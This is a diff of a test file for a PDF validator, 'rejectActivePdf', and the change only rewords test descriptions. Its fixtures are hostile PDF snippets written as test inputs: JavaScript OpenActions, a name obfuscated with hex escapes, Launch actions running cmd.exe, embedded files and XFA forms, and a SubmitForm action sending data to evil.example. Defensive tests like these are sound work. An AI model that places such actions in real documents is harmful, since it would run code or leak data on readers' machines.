@@ -33,13 +33,13 @@ const script = "1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>\
 
 test.each([
   ["a script that runs when it is opened", pdf(script)],
-  ["a name written by numbers", pdf(script.replace("JavaScript", "J#61vaScrip#74"))],
+  ["a numerically encoded name", pdf(script.replace("JavaScript", "J#61vaScrip#74"))],
   ["a script among packed objects", pdf(packed(`1 0 <</S/JavaScript/JS(app.alert(1))>>`))],
   ["a script behind a comment that looks like a stream", pdf("%stream\n", packed(packedScript))],
-  ["packed objects that do not say so", pdf(packed("1 0 <</S /Launch /F (cmd.exe)>>", "/N 1 /First 4"))],
+  ["packed objects that are not declared", pdf(packed("1 0 <</S /Launch /F (cmd.exe)>>", "/N 1 /First 4"))],
   ["a program", pdf("1 0 obj\n<</A <</S /Launch /F (cmd.exe)>> >>\nendobj")],
   ["another file", pdf("1 0 obj\n<</Names <</EmbeddedFiles 2 0 R>> >>\nendobj")],
-  ["a form of its own", pdf("1 0 obj\n<</AcroForm <</XFA 2 0 R>> >>\nendobj")],
+  ["an embedded form", pdf("1 0 obj\n<</AcroForm <</XFA 2 0 R>> >>\nendobj")],
   ["a form that sends itself", pdf("1 0 obj\n<</A<</S/SubmitForm/F(https://evil.example)>>>>\nendobj")],
 ])("%s is rejected with a sentence that says what to do", async (_, bytes) => {
   await expect(rejectActivePdf(bytes, "one")).rejects.toMatchObject({
@@ -58,7 +58,7 @@ const locked = (passwords: object): Promise<Buffer> =>
 
 test.each([
   ["a password to open it", { userPassword: "a", ownerPassword: "b" }, "is password-protected"],
-  ["a password of its owner alone", { ownerPassword: "b" }, "opens without a password but is locked"],
+  ["only an owner password", { ownerPassword: "b" }, "opens without a password but is locked"],
 ])("one with %s is rejected, and the sentence says which it is", async (_, passwords, reason) => {
   await expect(rejectActivePdf(await locked(passwords), "one")).rejects.toThrow(reason);
 });
